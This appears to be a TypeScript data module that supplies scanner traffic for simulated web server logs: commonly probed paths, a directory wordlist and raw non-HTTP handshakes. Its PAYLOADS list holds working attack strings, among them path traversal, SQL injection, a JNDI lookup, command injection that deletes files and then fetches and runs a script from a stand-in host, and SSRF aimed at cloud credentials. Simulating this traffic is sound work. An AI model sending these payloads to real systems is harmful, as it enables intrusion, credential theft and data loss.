/** What strangers ask a web server for. All of it is public knowledge: it stands in the log of every server. */
import { weighted, zipf } from '../draw.ts'

/** Single paths of the Internet's radiation, the most usual first; spray scans use the same list. */
export const RADIATION = zipf([
  '/', '/.env', '/wp-login.php', '/.git/config', '/robots.txt', '/favicon.ico', '/xmlrpc.php', '/actuator/health', '/login', '/admin',
  '/.aws/credentials', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/boaform/admin/formLogin', '/phpmyadmin/index.php',
  '/cgi-bin/luci/;stok=/locale', '/.well-known/security.txt', '/sitemap.xml', '/api/.env', '/config.json', '/server-status', '/owa/auth/logon.aspx',
  '/manager/html', '/solr/admin/info/system', '/_profiler/phpinfo', '/info.php', '/phpinfo.php', '/.DS_Store', '/backup.zip', '/wp-config.php.bak',
  '/remote/login', '/hudson', '/HNAP1', '/geoserver/web/', '/ReportServer', '/.vscode/sftp.json', '/telescope/requests', '/v2/_catalog', '/teorema505?t=1',
], 0.8)

/** Payload probes: reading files, running commands, injecting. */
export const PAYLOADS = [
  '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', '/index.php?page=../../../../../../etc/passwd', '/?file=php://filter/convert.base64-encode/resource=index.php',
  '/search?q=1%27%20UNION%20SELECT%20NULL,NULL,version()--%20-', '/product?id=1%20OR%201=1', '/?x=${jndi:ldap://198.51.100.77:1389/a}',
  '/?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id', '/ping?host=127.0.0.1;cat%20/etc/passwd',
  '/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.77/m.sh;sh+m.sh', '/?q=%3Cscript%3Ealert(1)%3C/script%3E', '/?name={{7*7}}',
  '/proxy?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/', '/..%252f..%252f..%252fetc/passwd',
  '/index.php?lang=../../../../../../../../usr/local/lib/php/pearcmd&+config-create+/&/<?=md5(1)?>+/tmp/a.php',
] as const

/** What a list of directories and files holds; the scan walks it with endings. */
export const WORDLIST = [
  'admin', 'administrator', 'api', 'app', 'assets', 'auth', 'backup', 'backups', 'bak', 'beta', 'bin', 'cache', 'cms', 'conf', 'config', 'console',
  'cron', 'data', 'database', 'db', 'debug', 'demo', 'dev', 'docs', 'download', 'dump', 'email', 'export', 'files', 'forum', 'git', 'graphql', 'hidden',
  'home', 'images', 'import', 'inc', 'include', 'install', 'internal', 'jenkins', 'js', 'lib', 'log', 'logs', 'mail', 'manage', 'manager', 'media', 'monitor',
  'mysql', 'new', 'node_modules', 'old', 'panel', 'phpmyadmin', 'pma', 'portal', 'private', 'public', 'rest', 'root', 'scripts', 'secret', 'secure', 'server',
  'setup', 'shop', 'site', 'sql', 'staging', 'stats', 'status', 'storage', 'swagger', 'system', 'temp', 'test', 'tmp', 'tools', 'upload', 'uploads', 'user',
  'users', 'v1', 'v2', 'vendor', 'web', 'webmail', 'wordpress', 'wp', 'wp-admin', 'wp-content', 'wp-includes', 'www', 'xml',
] as const
export const ENDINGS = ['', '/', '.php', '.zip', '.sql', '.bak', '.old', '.txt', '.json', '.tar.gz', '.inc', '.asp'] as const

/** What is no HTTP at all, as nginx and Apache escape it. */
export const NO_HTTP = weighted([
  ['\\x16\\x03\\x01\\x00\\xEE\\x01\\x00\\x00\\xEA\\x03\\x03', 5], ['\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03', 4],
  ['\\x03\\x00\\x00/*\\xE0\\x00\\x00\\x00\\x00\\x00Cookie: mstshash=Administr', 3], ['SSH-2.0-Go', 2], ['\\x00\\x00\\x00\\x85\\xFFSMBr\\x00\\x00\\x00\\x00', 1], ['MGLNDD_192.0.2.10_80', 2],
])
